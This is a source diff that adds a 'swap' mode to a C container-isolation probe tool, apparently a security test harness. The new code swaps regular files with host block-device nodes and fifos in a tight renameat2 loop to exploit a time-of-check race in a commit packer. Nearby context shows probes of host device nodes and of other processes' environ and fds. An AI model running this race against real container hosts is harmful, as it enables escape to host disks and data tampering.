@@ -9,6 +9,8 @@
  *   probe devices DEV:INO PATH...  refuse if a PATH is the host's node DEV:INO; else chmod/chown/utime/setxattr it
  *   probe watch SECONDS            watch /proc for processes that are not the container's own programs and try
  *                                  their exe, environ and fds
+ *   probe swap MAJOR MINOR         (commit race) in /race, exchange regular files with a block device node
+ *                                  MAJOR:MINOR and with a fifo by rename, in a tight loop until killed
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -229,6 +231,39 @@ static int do_watch(int seconds, const char *secret) {
     return 0;
 }
 
+/* ---- swap: the commit packer's lstat-then-open race (issue 18, item 4) ------------------------------------ */
+
+#define SWAP_TARGETS 8
+
+/* Regular files aN, block device nodes bN (the host's MAJOR:MINOR) and fifos cN, made once; then aN is exchanged
+ * with bN and back, and with cN and back, by renameat2(RENAME_EXCHANGE) in a tight loop, so every name always
+ * exists and each is, in turn, a regular file and something else. The regular files are sparse: nothing is
+ * allocated or freed while swapping (a discard-mounted disk would make that the loop's whole cost). */
+static int exchange(const char *a, const char *b) {
+    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
+}
+
+static int do_swap(unsigned major_no, unsigned minor_no) {
+    if (mkdir("/race", 0755) < 0 || chdir("/race") < 0) return printf("setup %s\n", err(errno)), 1;
+    char a[16], b[16], c[16];
+    for (int i = 0; i < SWAP_TARGETS; i++) {
+        snprintf(a, sizeof a, "a%d", i), snprintf(b, sizeof b, "b%d", i), snprintf(c, sizeof c, "c%d", i);
+        int fd = open(a, O_WRONLY | O_CREAT | O_EXCL, 0644);
+        if (fd < 0 || ftruncate(fd, 4096) < 0) return printf("regular %s\n", err(errno)), 1;
+        close(fd);
+        if (mknod(b, S_IFBLK | 0600, makedev(major_no, minor_no)) < 0) return printf("mknod %s\n", err(errno)), 1;
+        if (mkfifo(c, 0600) < 0) return printf("mkfifo %s\n", err(errno)), 1;
+    }
+    printf("swapping\n");
+    for (;;) {
+        for (int i = 0; i < SWAP_TARGETS; i++) {
+            snprintf(a, sizeof a, "a%d", i), snprintf(b, sizeof b, "b%d", i), snprintf(c, sizeof c, "c%d", i);
+            if (exchange(a, b) < 0 || exchange(a, b) < 0 || exchange(a, c) < 0 || exchange(a, c) < 0)
+                return printf("exchange %s\n", err(errno)), 1;
+        }
+    }
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (argc < 2) return 2;
@@ -237,5 +272,6 @@ int main(int argc, char **argv) {
     if (!strcmp(argv[1], "unshare-user")) return do_unshare_user();
     if (!strcmp(argv[1], "devices")) return do_devices(argc - 2, argv + 2);
     if (!strcmp(argv[1], "watch") && argc >= 4) return do_watch(atoi(argv[2]), argv[3]);
+    if (!strcmp(argv[1], "swap") && argc >= 4) return do_swap(atoi(argv[2]), atoi(argv[3]));
     return 2;
 }
